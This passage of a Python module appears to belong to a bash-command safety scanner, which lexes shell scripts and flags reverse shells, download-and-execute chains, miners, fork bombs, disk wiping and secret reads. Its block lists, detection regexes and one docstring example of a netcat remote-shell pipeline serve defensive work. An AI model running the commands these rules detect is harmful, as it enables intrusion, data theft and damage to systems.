"""Bash rules: what a shell script or a single command line would do, rated by harm.

A small lexer splits the text into pipelines of simple commands (quotes, `$(...)`, backticks,
process substitution, redirections and here-documents understood), strips wrappers such as
`sudo`, `env`, `nohup` or `xargs`, and judges each command by what it touches. Nested code
(`bash -c`, `eval`, `$(...)`, `python -c`, here-documents fed to an interpreter) is scanned
again, so hiding a command one level down does not hide it.

This module only detects: findings name a rule id of the catalogue (`rules.py`), which holds
each rule's severity, category and rationale; graded rules pass the rating they reached.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from dataclasses import dataclass, field

from ..models import Finding, severity_rank
from ..secrets import is_secret_name
from . import paths, rules
from .paths import COMPUTED, Verdict

PythonScan = Callable[[str, int, int], list[Finding]]
"""Scans Python source found inside a script: (code, first line, depth) -> findings."""

MAX_DEPTH = 6
BIG_BYTES = 4 * 1024**3

SHELLS = frozenset({"sh", "bash", "zsh", "dash", "ksh", "fish", "ash", "busybox", "mksh", "csh"})
PYTHONS = re.compile(r"^(python|python\d(\.\d+)?|pypy\d?|ipython\d?)$")
OTHER_INTERPRETERS = frozenset(
    {"perl", "ruby", "node", "nodejs", "php", "lua", "Rscript", "osascript"}
)
DOWNLOADERS = frozenset({"curl", "wget", "fetch", "aria2c", "http", "https", "lwp-download", "GET"})
RAW_NET = frozenset({"nc", "ncat", "netcat", "socat", "telnet", "cryptcat", "pwncat"})
REMOTE_COPY = frozenset({"scp", "sftp", "ftp", "lftp", "tftp", "smbclient", "rclone", "ssh"})
READ_ONLY_LISTING = frozenset({"ls", "stat", "test", "[", "file", "du", "echo", "printf"})
RESERVED = frozenset(
    {
        "if",
        "then",
        "else",
        "elif",
        "fi",
        "do",
        "done",
        "while",
        "until",
        "!",
        "{",
        "}",
        "time",
        "function",
        "coproc",
        "case",
        "esac",
        "in",
        "select",
        "for",
    }
)
WRAPPERS_NO_ARG = frozenset(
    {
        "nohup",
        "command",
        "builtin",
        "exec",
        "setsid",
        "unbuffer",
        "chronic",
        "caffeinate",
        "proxychains",
        "proxychains4",
        "torsocks",
        "busybox",
        "stdbuf",
        "time",
        "nice",
        "ionice",
        "chrt",
        "taskset",
        "doas",
    }
)
MINERS = re.compile(
    r"^(xmrig|xmr-stak\S*|minerd|cpuminer\S*|cgminer|bfgminer|ethminer|t-rex|nbminer|"
    r"lolminer|phoenixminer|nanominer|srbminer\S*|gminer|teamredminer|ccminer|kdevtmpfsi)$",
    re.IGNORECASE,
)
MINER_ARGS = re.compile(
    r"stratum\+(tcp|ssl|tls)://|--donate-level|--coin[= ]|(^|\s)(-a|--algo)[= ]?(rx/|cn/|"
    r"randomx|cryptonight|ethash|kawpow|autolykos)|\bmonero\b|\bxmr\b|\bnicehash\b|"
    r"(^|\s)4[0-9AB][1-9A-HJ-NP-Za-km-z]{93}(\s|$)",
    re.IGNORECASE,
)
REVERSE_SHELL_CODE = re.compile(
    r"(IO::Socket|use Socket|socket\(|fsockopen|TCPSocket|net\.Socket|net\.connect|"
    r"socket\.socket|/dev/tcp/)",
    re.IGNORECASE,
)
RUNS_SHELL_CODE = re.compile(
    r"(exec|system|spawn|popen|proc_open|passthru|shell_exec|`|/bin/(ba)?sh|\bsh -i|"
    r"fdopen|open\(STD(IN|OUT))",
    re.IGNORECASE,
)
EXEC_MODE = re.compile(r"^([ugoa]*[+=][rwxXst]*x[rwxXst]*|[0-7]*[1357][0-7]?[0-7]?|[0-7]*[1357])$")
DOWNLOAD_OUT_FLAGS = ("-o", "--output", "-O", "--output-document")
DECODERS = re.compile(
    r"\b(base64\s+(-d|--decode|-D)|base32\s+-d|xxd\s+-r|openssl\s+(enc\s+)?(-d|base64)|"
    r"gunzip|zcat|uudecode|rev\b|tr\s+['\"]?a-zA-Z|tr\s+['\"]?A-Za-z)"
)


@dataclass
class Command:
    words: list[str]
    line: int
    redirects: list[tuple[str, str]] = field(default_factory=list)
    subs: list[tuple[str, int]] = field(default_factory=list)
    heredoc: str | None = None
    background: bool = False


@dataclass
class Pipeline:
    commands: list[Command] = field(default_factory=list)


@dataclass
class _Lexed:
    pipelines: list[Pipeline]
    unbalanced: bool


def _read_balanced(text: str, i: int, open_ch: str, close_ch: str) -> int:
    """Index just past the `close_ch` matching an already consumed `open_ch`."""
    depth = 1
    n = len(text)
    quote = ""
    while i < n:
        c = text[i]
        if quote:
            if c == "\\" and quote == '"':
                i += 2
                continue
            if c == quote:
                quote = ""
        elif c in "'\"":
            quote = c
        elif c == "\\":
            i += 2
            continue
        elif c == open_ch:
            depth += 1
        elif c == close_ch:
            depth -= 1
            if depth == 0:
                return i + 1
        i += 1
    return -1


def lex(text: str, first_line: int = 1) -> _Lexed:
    """Split a script into pipelines of simple commands."""
    pipelines: list[Pipeline] = []
    pipeline = Pipeline()
    cmd = Command([], first_line)
    word: list[str] = []
    has_word = False
    pending_redirect: str | None = None
    heredocs: list[tuple[Command, str, bool]] = []
    unbalanced = False
    line = first_line
    i = 0
    n = len(text)

    def finish_word() -> None:
        nonlocal word, has_word, pending_redirect
        if not has_word:
            return
        w = "".join(word)
        if pending_redirect is not None:
            if pending_redirect.startswith("<<") and pending_redirect != "<<<":
                quoted = "'" in w or '"' in w
                heredocs.append((cmd, w.strip("'\"").lstrip("-"), quoted))
            else:
                cmd.redirects.append((pending_redirect, w))
            pending_redirect = None
        else:
            if not cmd.words:
                cmd.line = word_line
            cmd.words.append(w)
        word = []
        has_word = False

    def finish_command(background: bool = False) -> None:
        nonlocal cmd
        finish_word()
        cmd.background = background
        if cmd.words or cmd.redirects:
            pipeline.commands.append(cmd)
        cmd = Command([], line)

    def finish_pipeline() -> None:
        nonlocal pipeline
        if pipeline.commands:
            pipelines.append(pipeline)
        pipeline = Pipeline()

    word_line = line
    while i < n:
        c = text[i]
        if not has_word:
            word_line = line
        if c == "\\" and i + 1 < n:
            if text[i + 1] == "\n":
                line += 1
                i += 2
                continue
            word.append(text[i + 1])
            has_word = True
            i += 2
            continue
        if c == "'":
            end = text.find("'", i + 1)
            if end < 0:
                unbalanced = True
                end = n
            word.append(text[i + 1 : end])
            line += text.count("\n", i, end)
            has_word = True
            i = end + 1
            continue
        if c == '"':
            j = i + 1
            buf: list[str] = []
            while j < n and text[j] != '"':
                if text[j] == "\\" and j + 1 < n:
                    buf.append(text[j + 1])
                    j += 2
                    continue
                if text.startswith("$(", j) and not text.startswith("$((", j):
                    end = _read_balanced(text, j + 2, "(", ")")
                    if end < 0:
                        unbalanced = True
                        end = n
                    cmd.subs.append((text[j + 2 : end - 1], line))
                    buf.append(COMPUTED)
                    j = end
                    continue
                if text[j] == "`":
                    end = text.find("`", j + 1)
                    if end < 0:
                        unbalanced = True
                        end = n - 1
                    cmd.subs.append((text[j + 1 : end], line))
                    buf.append(COMPUTED)
                    j = end + 1
                    continue
                buf.append(text[j])
                j += 1
            if j >= n:
                unbalanced = True
            word.append("".join(buf))
            line += text.count("\n", i, j)
            has_word = True
            i = j + 1
            continue
        if text.startswith("$((", i):
            end = _read_balanced(text, i + 3, "(", ")")
            end = n if end < 0 else min(n, end + 1)
            word.append(COMPUTED)
            has_word = True
            i = end
            continue
        if text.startswith("$(", i) or text.startswith("<(", i) or text.startswith(">(", i):
            if c in "<>" and has_word:
                pass
            else:
                end = _read_balanced(text, i + 2, "(", ")")
                if end < 0:
                    unbalanced = True
                    end = n
                cmd.subs.append((text[i + 2 : end - 1], line))
                line += text.count("\n", i, end)
                word.append(COMPUTED)
                has_word = True
                i = end
                continue
        if c == "`":
            end = text.find("`", i + 1)
            if end < 0:
                unbalanced = True
                end = n - 1
            cmd.subs.append((text[i + 1 : end], line))
            word.append(COMPUTED)
            has_word = True
            i = end + 1
            continue
        if c == "$" and i + 1 < n and text[i + 1] == "{":
            end = text.find("}", i)
            end = n if end < 0 else end + 1
            word.append(text[i:end])
            has_word = True
            i = end
            continue
        if c == "#" and not has_word:
            end = text.find("\n", i)
            i = n if end < 0 else end
            continue
        if c in " \t\r":
            finish_word()
            i += 1
            continue
        if c == "\n":
            finish_command()
            finish_pipeline()
            line += 1
            i += 1
            for hcmd, delim, _quoted in heredocs:
                body: list[str] = []
                while i < n:
                    end = text.find("\n", i)
                    end = n if end < 0 else end
                    current = text[i:end]
                    i = end + 1
                    line += 1
                    if current.strip() == delim:
                        break
                    body.append(current)
                hcmd.heredoc = "\n".join(body)
            heredocs.clear()
            continue
        if c in ";&|()":
            two = text[i : i + 2]
            if two == ">&" or (c == "&" and text.startswith("&>", i)):
                pass  # redirection, handled below
            else:
                if two in ("&&", "||", ";;"):
                    finish_command()
                    finish_pipeline()
                    i += 2
                    continue
                if two == "|&":
                    finish_command()
                    i += 2
                    continue
                if c == "|":
                    finish_command()
                    i += 1
                    continue
                if c == "&":
                    finish_command(background=True)
                    finish_pipeline()
                    i += 1
                    continue
                finish_command()
                finish_pipeline()
                i += 1
                continue
        m = re.match(r"(\d*)(>>|>\||>&|<<<|<<-|<<|<>|<&|&>>|&>|>|<)", text[i:])
        if m and (not has_word or "".join(word).isdigit()):
            if has_word:
                word = []
                has_word = False
            op = m.group(2)
            i += m.end()
            if op in (">&", "<&"):
                fd = re.match(r"\s*(\d+|-)", text[i:])
                if fd:
                    i += fd.end()
                    continue
                op = ">"
            pending_redirect = op
            while i < n and text[i] in " \t":
                i += 1
            continue
        word.append(c)
        has_word = True
        i += 1
    finish_command()
    finish_pipeline()
    return _Lexed(pipelines, unbalanced)


def _shell_path(word: str) -> str:
    """A shell word as a path for the classifier: `$HOME` is `~`, other variables unknown."""
    w = word
    w = re.sub(r"\$\{HOME\}|\$HOME\b", "~", w)
    w = re.sub(r"\$\{PWD\}|\$PWD\b", ".", w)
    w = re.sub(r"\$\{TMPDIR[^}]*\}|\$TMPDIR\b", "/tmp", w)
    w = re.sub(r"\$\{[^}]*\}|\$[A-Za-z_][A-Za-z0-9_]*|\$[0-9@*#?$!-]", COMPUTED, w)
    return w


def _size_bytes(text: str) -> int | None:
    m = re.fullmatch(r"(\d+(?:\.\d+)?)\s*([KMGTPE]?)(i?B?)?", text.strip(), re.IGNORECASE)
    if not m:
        return None
    scale = {
        "": 1,
        "K": 1024,
        "M": 1024**2,
        "G": 1024**3,
        "T": 1024**4,
        "P": 1024**5,
        "E": 1024**6,
    }[m.group(2).upper()]
    return int(float(m.group(1)) * scale)


def _host(words: list[str]) -> str:
    for w in words:
        m = re.match(r"^[a-z][a-z0-9+.-]*://([^/:?#\s]+)", w)
        if m:
            return m.group(1)
        m = re.match(r"^(?:[\w.-]+@)?([\w-]+(?:\.[\w-]+)+):", w)
        if m:
            return m.group(1)
    for w in words:
        if not w.startswith("-") and re.fullmatch(r"[\w-]+(\.[\w-]+)+|\d+\.\d+\.\d+\.\d+", w):
            return w
    return "a network host"


class BashScanner:
    """Scans one script; nested scripts get a new scanner one level deeper."""

    def __init__(self, python_scan: PythonScan | None = None, depth: int = 0) -> None:
        self.python_scan = python_scan
        self.depth = depth
        self.findings: list[Finding] = []

    # -- helpers ----------------------------------------------------------------------------
    def add(
        self,
        rule: str,
        line: int,
        message: str,
        *,
        severity: str | None = None,
        category: str | None = None,
    ) -> None:
        """A finding of catalogued `rule` (rules.py); graded rules pass their rating."""
        if severity is not None and severity_rank(severity) < 0:
            return
        self.findings.append(
            rules.finding(rule, line, message, severity=severity, category=category)
        )

    def add_verdict(self, rule: str, verdict: Verdict, line: int) -> None:
        if verdict.severity != paths.SEVERITY_NONE:
            self.add(
                rule, line, verdict.reason, severity=verdict.severity, category=verdict.category
            )

    def nested(self, text: str, line: int) -> list[Finding]:
        if self.depth >= MAX_DEPTH:
            return [rules.finding("nesting", line, "nests scripts too deep to check")]
        inner = BashScanner(self.python_scan, self.depth + 1)
        return inner.scan(text, line)

    def nested_python(self, code: str, line: int) -> list[Finding]:
        if self.python_scan is None:
            return []
        return self.python_scan(code, line, self.depth + 1)

    # -- entry ------------------------------------------------------------------------------
    def scan(self, text: str, first_line: int = 1) -> list[Finding]:
        lexed = lex(text, first_line)
        if lexed.unbalanced:
            self.add(
                "unparseable",
                first_line,
                "shell code has unbalanced quotes or brackets; it cannot be checked",
            )
        self._fork_bombs(text, first_line)
        self._secret_vars(text, first_line)
        self._loops(lexed.pipelines)
        for pipeline in lexed.pipelines:
            for index, cmd in enumerate(pipeline.commands):
                upstream = pipeline.commands[:index]
                self._command(cmd, upstream)
                for sub_text, sub_line in cmd.subs:
                    self.findings.extend(self.nested(sub_text, sub_line))
            self._shell_over_network(pipeline)
            self._endless_output(pipeline)
        self.findings.extend(chain_findings(lexed.pipelines))
        self.findings.extend(exfiltration(self.findings))
        return self.findings

    def _endless_output(self, pipeline: Pipeline) -> None:
        """`yes` or `cat /dev/urandom` whose output nothing consumes: it floods the output."""
        if not pipeline.commands:
            return
        last = pipeline.commands[-1]
        words = _plain_words(last.words)
        if not words or last.redirects or last.background:
            return
        prog, args = words[0].rsplit("/", 1)[-1], words[1:]
        if prog == "yes" or (
            prog == "cat" and any(a in ("/dev/zero", "/dev/urandom", "/dev/random") for a in args)
        ):
            self.add(
                "output-flood",
                last.line,
                f"prints without end ({' '.join(words)}): floods the output until it is stopped",
            )

    def _shell_over_network(self, pipeline: Pipeline) -> None:
        """`cat fifo | sh -i | nc host port > fifo`: a shell whose input or output is a network
        connection in the same pipeline is a remote shell, whichever side the shell is on."""
        progs = [
            (_plain_words(c.words)[0].rsplit("/", 1)[-1], c)
            for c in pipeline.commands
            if _plain_words(c.words)
        ]
        shells = [c for prog, c in progs if prog in SHELLS]
        nets = [c for prog, c in progs if prog in RAW_NET]
        if not shells or not nets:
            return
        line = shells[0].line
        if any(f.rule == "reverse-shell" and f.line == line for f in self.findings):
            return
        self.add(
            "reverse-shell",
            line,
            "connects a shell's input and output to a network connection to "
            f"{_host(_plain_words(nets[0].words)[1:])} (remote shell)",
        )

    # -- whole-text rules -------------------------------------------------------------------
    def _fork_bombs(self, text: str, first_line: int) -> None:
        for m in re.finditer(r"([\w:.-]+)\s*\(\s*\)\s*\{", text):
            name = re.escape(m.group(1))
            end = text.find("}", m.end())
            body = text[m.end() : end if end >= 0 else len(text)]
            recursive_pipe = re.search(rf"(^|[\s;|&]){name}\s*\|\s*{name}(\s|&|;|$)", body)
            recursive_bg = re.search(rf"(^|[\s;|&]){name}\s*&", body)
            if recursive_pipe or recursive_bg:
                line = first_line + text.count("\n", 0, m.start())
                self.add(
                    "fork-bomb",
                    line,
                    "defines a fork bomb (a function that spawns itself without end)",
                )
        for m in re.finditer(r"\$0\s*(\|\s*\$0\s*)?&", text):
            line = first_line + text.count("\n", 0, m.start())
            self.add("fork-bomb", line, "starts copies of itself in the background (fork bomb)")

    def _secret_vars(self, text: str, first_line: int) -> None:
        for m in re.finditer(r"\$\{?([A-Za-z_][A-Za-z0-9_]*)", text):
            if is_secret_name(m.group(1)):
                line = first_line + text.count("\n", 0, m.start())
                self.add("secret-variable", line, f"reads the secret variable ${m.group(1)}")

    def _loops(self, pipelines: list[Pipeline]) -> None:
        stack: list[tuple[bool, int, list[Command]]] = []
        for pipeline in pipelines:
            for cmd in pipeline.commands:
                words = cmd.words
                first = words[0] if words else ""
                if first in ("while", "until"):
                    cond = " ".join(words[1:]).strip()
                    cond = re.sub(r"^do\b", "", cond).strip()
                    endless = (
                        first == "while" and cond in ("true", ":", "[ 1 ]", "((1))", "")
                    ) or (first == "until" and cond == "false")
                    body: list[Command] = []
                    stack.append((endless, cmd.line, body))
                    if "do" in words:
                        rest = words[words.index("do") + 1 :]
                        if rest:
                            body.append(
                                Command(
                                    rest,
                                    cmd.line,
                                    cmd.redirects,
                                    cmd.subs,
                                    background=cmd.background,
                                )
                            )
                    continue
                if first == "done" or (words and words[-1] == "done" and stack):
                    if stack:
                        endless, line, body = stack.pop()
                        if words and words[-1] == "done" and first != "done":
                            body.append(cmd)
                        if endless:
                            self._endless(body, line)
                        if stack:
                            stack[-1][2].extend(body)
                    continue
                for _, _, body in stack:
                    body.append(cmd)

    def _endless(self, body: list[Command], line: int) -> None:
        words_all = [w for c in body for w in c.words]
        if any(w in ("break", "exit", "return") for w in words_all):
            return
        if any(c.background for c in body):
            self.add(
                "endless-spawn", line, "starts background processes in an endless loop (fork bomb)"
            )
            return
        writes = any(
            op in (">", ">>", "&>", "&>>", ">|") and not w.startswith("/dev/")
            for c in body
            for op, w in c.redirects
        ) or any(c.words and c.words[0] in ("tee", "dd", "cp", "fallocate") for c in body)
        if writes:
            self.add("endless-write", line, "writes to disk in an endless loop (fills the disk)")
            return
        progs = {_plain_words(c.words)[0] for c in body if _plain_words(c.words)}
        if progs & {"sleep", "read", "wait", "inotifywait"}:
            return
        if progs & {"echo", "printf", "cat", "yes", "ls", "date", "seq"}:
            self.add(
                "output-flood",
                line,
                "prints in an endless loop with no way out (floods the output until it is stopped)",
            )
        else:
            self.add(
                "busy-loop",
                line,
                "loops forever with no way out and no pause (holds a CPU core until it is stopped)",
            )

    # -- one simple command -----------------------------------------------------------------
    def _command(self, cmd: Command, upstream: list[Command]) -> None:
        words = list(cmd.words)
        line = cmd.line
        while words and words[0] in RESERVED:
            words = words[1:]
        for op, target in cmd.redirects:
            self._redirect(op, target, line)
        if not words:
            return
        from_stdin = False
        # Leading assignments and wrappers.
        while words:
            w = words[0]
            m = re.match(r"^([A-Za-z_][A-Za-z0-9_]*)=(.*)$", w)
            if m:
                if m.group(1) in ("HISTFILE", "HISTSIZE", "HISTFILESIZE") and len(words) == 1:
                    self.add("hide-history", line, "hides shell history")
                if m.group(1) in ("LD_PRELOAD", "PYTHONSTARTUP", "PROMPT_COMMAND", "BASH_ENV"):
                    self.add(
                        "preload", line, f"sets {m.group(1)} (runs code inside other programs)"
                    )
                words = words[1:]
                continue
            base = w.rsplit("/", 1)[-1]
            if base in ("sudo", "su", "doas", "pkexec", "runuser"):
                self.add("privilege", line, f"runs a command as another user ({base})")
                if base == "su" and "-c" in words:
                    idx = words.index("-c")
                    if idx + 1 < len(words):
                        self.findings.extend(self.nested(words[idx + 1], line))
                    return
                words = words[1:]
                while words and words[0].startswith("-"):
                    opt = words[0]
                    words = words[1:]
                    if opt in ("-u", "-g", "-U", "-C", "-D", "-h", "-p", "-r", "-t") and words:
                        words = words[1:]
                continue
            if base in WRAPPERS_NO_ARG:
                words = words[1:]
                while words and words[0].startswith("-"):
                    opt = words[0]
                    words = words[1:]
                    if opt in ("-n", "-c", "-p", "-o", "-e", "-i", "-t") and words:
                        words = words[1:]
                continue
            if base == "timeout":
                words = words[1:]
                while words and words[0].startswith("-"):
                    opt = words[0]
                    words = words[1:]
                    if opt in ("-s", "-k", "--signal", "--kill-after") and words:
                        words = words[1:]
                words = words[1:]
                continue
            if base == "watch":
                rest = [x for x in words[1:] if not x.startswith("-")]
                if rest:
                    self.findings.extend(self.nested(" ".join(rest), line))
                return
            if base == "env":
                rest = words[1:]
                while rest and (rest[0].startswith("-") or "=" in rest[0]):
                    opt = rest[0]
                    rest = rest[1:]
                    if opt in ("-u", "-C", "-S") and rest:
                        rest = rest[1:]
                if not rest:
                    self.add("env-dump", line, "dumps the whole environment (API keys included)")
                    return
                words = rest
                continue
            if base == "xargs":
                words = words[1:]
                while words and words[0].startswith("-"):
                    opt = words[0]
                    words = words[1:]
                    if opt in ("-I", "-n", "-P", "-d", "-L", "-s", "-E", "-a") and words:
                        words = words[1:]
                from_stdin = True
                if not words:
                    words = ["echo"]
                continue
            break
        if not words:
            return
        prog = words[0].rsplit("/", 1)[-1]
        args = words[1:]
        if words[0] == COMPUTED or words[0].startswith("$"):
            self.add("computed-program", line, "runs a command whose name is computed")
        self._secret_args(prog, args, line)
        miner_arg = MINER_ARGS.search(" ".join(args))
        if MINERS.match(prog) or miner_arg:
            evidence = (
                f"the program is named {prog}"
                if MINERS.match(prog)
                else f"its arguments name {miner_arg.group(0).strip()[:40]!r}"
                if miner_arg
                else ""
            )
            self.add(
                "miner",
                line,
                f"starts a cryptocurrency miner ({evidence}): it spends this machine's CPU "
                "for someone else",
            )
            return
        handler = _HANDLERS.get(prog)
        if handler is not None:
            handler(self, prog, args, cmd, upstream, line, from_stdin)
        elif (
            PYTHONS.match(prog)
            or prog in SHELLS
            or prog in OTHER_INTERPRETERS
            or prog
            in (
                "source",
                ".",
            )
        ):
            self._interpreter(prog, args, cmd, upstream, line)
        elif re.match(r"^mkfs(\.|$)", prog):
            self.add("format-disk", line, "formats a disk (mkfs)")

    def _redirect(self, op: str, target: str, line: int) -> None:
        path = _shell_path(target)
        if path.startswith("/dev/tcp/") or path.startswith("/dev/udp/"):
            self.add(
                "dev-tcp", line, f"opens a raw network connection through {path} (reverse shell)"
            )
            return
        if op in ("<", "<>", "<<<"):
            self.add_verdict("read-secret", paths.read_verdict(path), line)
            return
        self.add_verdict("write-path", paths.write_verdict(path), line)

    def _secret_args(self, prog: str, args: list[str], line: int) -> None:
        for arg in args:
            candidates = [arg]
            if "=" in arg:
                candidates.append(arg.split("=", 1)[1])
            if arg.startswith("@"):
                candidates.append(arg[1:])
            for cand in candidates:
                verdict = paths.read_verdict(_shell_path(cand))
                if verdict.severity == paths.SEVERITY_NONE:
                    continue
                if prog in READ_ONLY_LISTING and verdict.severity == "critical":
                    verdict = Verdict(
                        "medium", verdict.category, verdict.reason.replace("reads", "looks at")
                    )
                self.add_verdict("read-secret", verdict, line)
                break

    def _interpreter(
        self, prog: str, args: list[str], cmd: Command, upstream: list[Command], line: int
    ) -> None:
        is_python = bool(PYTHONS.match(prog))
        is_shell = prog in SHELLS or prog in ("source", ".")
        inline: str | None = None
        flags = [a for a in args if a.startswith("-")]
        if is_python and "-c" in args:
            idx = args.index("-c")
            inline = args[idx + 1] if idx + 1 < len(args) else ""
        elif (
            is_shell
            and any(re.fullmatch(r"-[a-z]*c[a-z]*", a) for a in args)
            and prog not in ("source", ".")
        ):
            idx = next(i for i, a in enumerate(args) if re.fullmatch(r"-[a-z]*c[a-z]*", a))
            inline = args[idx + 1] if idx + 1 < len(args) else ""
        elif prog in OTHER_INTERPRETERS and any(a in ("-e", "-E", "-r") for a in args):
            idx = next(i for i, a in enumerate(args) if a in ("-e", "-E", "-r"))
            inline = args[idx + 1] if idx + 1 < len(args) else ""
        if is_python and "-m" in args:
            idx = args.index("-m")
            module = args[idx + 1] if idx + 1 < len(args) else ""
            if module in ("http.server", "SimpleHTTPServer", "pyftpdlib", "smtpd"):
                self.add("serve-files", line, f"serves files over the network (python -m {module})")
            if module == "pip":
                self._pip(args[idx + 2 :], line)
            return
        subs_text = " ".join(t for t, _ in cmd.subs)
        if inline is not None:
            if COMPUTED in inline and any(re.search(rf"\b{d}\b", subs_text) for d in DOWNLOADERS):
                self.add(
                    "download-exec", line, f"runs code downloaded from the network with {prog}"
                )
            if is_python:
                self.findings.extend(self.nested_python(inline, line))
            elif is_shell:
                self.findings.extend(self.nested(inline, line))
            elif REVERSE_SHELL_CODE.search(inline) and RUNS_SHELL_CODE.search(inline):
                self.add(
                    "reverse-shell",
                    line,
                    f"an inline {prog} script connects to {_host(_addresses(inline))} and hands "
                    "it a shell (reverse shell)",
                )
            elif REVERSE_SHELL_CODE.search(inline):
                self.add(
                    "raw-connection",
                    line,
                    f"an inline {prog} script opens a raw network connection",
                )
            elif RUNS_SHELL_CODE.search(inline):
                self.add("inline-script-shell", line, f"an inline {prog} script runs commands")
            else:
                self.add("inline-script", line, f"runs an inline {prog} script")
            return
        # Script from a process substitution: `bash <(curl ...)`.
        if any(a == COMPUTED for a in args) and cmd.subs:
            if any(re.search(rf"\b{d}\b", subs_text) for d in DOWNLOADERS):
                self.add(
                    "download-exec", line, f"runs code downloaded from the network with {prog}"
                )
                return
        if cmd.heredoc is not None:
            if is_python:
                self.findings.extend(self.nested_python(cmd.heredoc, line + 1))
            elif is_shell:
                self.findings.extend(self.nested(cmd.heredoc, line + 1))
            return
        reads_stdin = (
            not [a for a in args if not a.startswith("-")] or "-" in args or ("/dev/stdin" in args)
        )
        if not reads_stdin or not upstream:
            return
        up_text = " | ".join(" ".join(c.words) for c in upstream)
        up_progs = {c.words[0].rsplit("/", 1)[-1] for c in upstream if c.words}
        if up_progs & RAW_NET:
            self.add(
                "reverse-shell",
                line,
                f"pipes commands received over a network connection into {prog} "
                f"(remote shell from {_host([w for c in upstream for w in c.words[1:]])})",
            )
            return
        if up_progs & DOWNLOADERS:
            self.add("download-exec", line, f"pipes code downloaded from the network into {prog}")
            return
        if DECODERS.search(up_text):
            self.add("decoded-exec", line, f"pipes a decoded payload into {prog}")
            return
        source = upstream[-1]
        if source.words and source.words[0] in ("echo", "printf"):
            payload = " ".join(a for a in source.words[1:] if not re.fullmatch(r"-[neE]+", a))
            if is_python:
                inner = self.nested_python(payload, line)
            elif is_shell:
                inner = self.nested(payload, line)
            else:
                inner = []
            self.findings.extend(inner)
            self.add("piped-literal", line, f"pipes text into {prog} to run it")
            return
        if flags or not flags:
            self.add("piped-code", line, f"runs code read from a pipe with {prog}")

    def _pip(self, args: list[str], line: int) -> None:
        if not args or args[0] not in ("install", "download"):
            return
        for idx, arg in enumerate(args):
            if arg in (
                "-i",
                "--index-url",
                "--extra-index-url",
                "-f",
                "--find-links",
                "--trusted-host",
            ):
                where = args[idx + 1] if idx + 1 < len(args) else "another index"
                self.add("pip-index", line, f"installs packages from {where}")
                return
            if re.match(r"^(git\+|https?://|ftp://)", arg):
                self.add("pip-url", line, f"installs a package from a URL ({arg})")
                return


Handler = Callable[[BashScanner, str, list[str], Command, list[Command], int, bool], None]


def _flags_and_targets(args: list[str]) -> tuple[list[str], list[str]]:
    flags: list[str] = []
    targets: list[str] = []
    end_of_flags = False
    for a in args:
        if not end_of_flags and a == "--":
            end_of_flags = True
        elif not end_of_flags and a.startswith("-") and a != "-":
            flags.append(a)
        else:
            targets.append(a)
    return flags, targets


def _rm(
    s: BashScanner,
    prog: str,
    args: list[str],
    cmd: Command,
    up: list[Command],
    line: int,
    from_stdin: bool,
) -> None:
    flags, targets = _flags_and_targets(args)
    recursive = prog in ("rmdir",) or any(
        f in ("--recursive",) or (not f.startswith("--") and re.search("[rR]", f)) for f in flags
    )
    if "--no-preserve-root" in flags:
        s.add("rm-root", line, "deletes with --no-preserve-root (the root filesystem)")
    if not targets and from_stdin:
        s.add("rm-stdin", line, "deletes paths read from input")
    worst: Verdict | None = None
    for t in targets:
        verdict = paths.delete_verdict(_shell_path(t), recursive)
        if worst is None or severity_rank(verdict.severity) > severity_rank(worst.severity):
            worst = verdict
    if worst is not None:
        s.add_verdict("delete-path", worst, line)


def _shred(
    s: BashScanner,
    prog: str,
    args: list[str],
    cmd: Command,
    up: list[Command],
    line: int,
    from_stdin: bool,
) -> None:
    _, targets = _flags_and_targets(args)
    for t in targets:
        s.add_verdict("delete-path", paths.delete_verdict(_shell_path(t), False), line)


def _find(
    s: BashScanner,
    prog: str,
    args: list[str],
    cmd: Command,
    up: list[Command],
    line: int,
    from_stdin: bool,
) -> None:
    starts: list[str] = []
    for a in args:
        if a.startswith("-") or a in ("(", "!", "\\("):
            break
        starts.append(a)
    starts = starts or ["."]
    deletes = "-delete" in args
    for key in ("-exec", "-execdir", "-ok", "-okdir"):
        if key in args:
            idx = args.index(key)
            sub: list[str] = []
            for a in args[idx + 1 :]:
                if a in (";", "\\;", "+", "{}+"):
                    break
                sub.append(a)
            if sub and sub[0].rsplit("/", 1)[-1] in ("rm", "shred", "unlink"):
                deletes = True
            elif sub:
                s._command(Command([x if x != "{}" else COMPUTED for x in sub], line), [])
    if deletes:
        pattern = ""
        for key in ("-name", "-iname"):
            if key in args and args.index(key) + 1 < len(args):
                pattern = args[args.index(key) + 1]
        for start in starts:
            where = _shell_path(start)
            if pattern and "/" not in pattern and pattern not in ("*", ".*"):
                # Only matching names are deleted: judge one such file in the folder.
                verdict = paths.delete_verdict(f"{where.rstrip('/')}/{pattern}", False)
                if verdict.severity == paths.SEVERITY_NONE and paths.locate(
                    paths.normalize(where)
                ) in (paths.WORK, paths.TMP):
                    verdict = Verdict(
                        "low",
                        "filesystem",
                        f"deletes files named {pattern} under {start}",
                    )
                s.add_verdict("delete-path", verdict, line)
            else:
                s.add_verdict("delete-path", paths.delete_verdict(where, True), line)


def _dd(
    s: BashScanner,
    prog: str,
    args: list[str],
    cmd: Command,
    up: list[Command],
    line: int,
    from_stdin: bool,
) -> None:
    opts = dict(a.split("=", 1) for a in args if "=" in a)
    target = opts.get("of")
    source = opts.get("if", "")
    if target:
        path = _shell_path(target)
        s.add_verdict("write-path", paths.write_verdict(path), line)
        if source in ("/dev/zero", "/dev/urandom", "/dev/random") and "count" not in opts:
            if paths.locate(paths.normalize(path)) not in (paths.DISK, paths.DEVICE):
                s.add(
                    "fill-disk",
                    line,
                    f"writes {source} to a file without a size limit (fills the disk)",
                )
    if source:
        s.add_verdict("read-secret", paths.read_verdict(_shell_path(source)), line)


def _disk_tool(
    s: BashScanner,
    prog: str,
    args: list[str],
    cmd: Command,
    up: list[Command],
    line: int,
    from_stdin: bool,
) -> None:
    s.add("format-disk", line, f"partitions or wipes a disk ({prog})")


def _copy(
    s: BashScanner,
    prog: str,
    args: list[str],
    cmd: Command,
    up: list[Command],
    line: int,
    from_stdin: bool,
) -> None:
    _, targets = _flags_and_targets(args)
    if prog == "rsync" and any(":" in t and not t.startswith("/") for t in targets):
        s.add("remote-copy", line, f"copies files to or from {_host(targets)}")
    if len(targets) < 2 and prog != "touch" and prog != "tee":
        return
    dests = targets if prog in ("tee", "touch") else targets[-1:]
    sources = [] if prog in ("tee", "touch") else targets[:-1]
    for d in dests:
        s.add_verdict("write-path", paths.write_verdict(_shell_path(d)), line)
    if prog == "mv":
        for src in sources:
            s.add_verdict("delete-path", paths.delete_verdict(_shell_path(src), True), line)


def _sed(
    s: BashScanner,
    prog: str,
